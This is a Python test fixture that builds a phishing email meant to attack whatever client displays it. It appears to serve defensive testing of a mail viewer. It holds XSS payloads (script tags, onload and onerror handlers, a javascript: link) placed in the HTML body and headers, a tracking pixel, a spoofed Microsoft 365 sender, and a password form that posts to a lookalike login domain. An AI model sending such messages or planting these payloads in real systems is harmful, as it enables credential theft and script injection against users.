"""A phishing message built to attack whoever displays it: script, event handlers, a credential
form and a remote tracking image in its HTML, and markup in its headers."""

from __future__ import annotations

HOSTILE_HEADER = "<script>window.__pwned = 'header'</script>"


def hostile_message(pixel_url: str, *, marker: str = "hostile") -> bytes:
    html = f"""<html><head><script>window.__pwned = 'script'</script>
<style>body {{ background: url({pixel_url}?css) }}</style></head>
<body onload="window.__pwned = 'onload'">
<p>Your mailbox password expires today. Sign in now to keep your account: {marker}</p>
<img src="{pixel_url}" width="1" height="1">
<img src="x" onerror="window.__pwned = 'onerror'; alert(1)">
<form action="https://login-microsoftonline.example-verify.top/owa" method="post">
<input type="email" name="login"><input type="password" name="passwd"><button>Verify</button></form>
<a href="javascript:window.__pwned='link'">Keep my password</a>
<a href="https://login-microsoftonline.example-verify.top/owa">https://login.microsoftonline.com/</a>
</body></html>"""
    text = f"Your mailbox password expires today. Verify now: https://login-microsoftonline.example-verify.top/owa {marker}"
    return (
        "From: \"Microsoft 365 Security\" <security@micros0ft-support.example-verify.top>\r\n"
        "Reply-To: helpdesk@example-verify.top\r\n"
        "To: jane@acme-corp.example\r\n"
        f"Subject: Urgent: your password expires today {HOSTILE_HEADER}\r\n"
        f"X-Hostile: {HOSTILE_HEADER}\r\n"
        "Authentication-Results: mx.acme-corp.example; spf=fail smtp.mailfrom=example-verify.top; dkim=none; "
        "dmarc=fail header.from=example-verify.top\r\n"
        "Message-ID: <hostile@example-verify.top>\r\n"
        "MIME-Version: 1.0\r\n"
        "Content-Type: multipart/alternative; boundary=\"b1\"\r\n\r\n"
        "--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        f"{text}\r\n"
        "--b1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        f"{html}\r\n--b1--\r\n"
    ).encode()
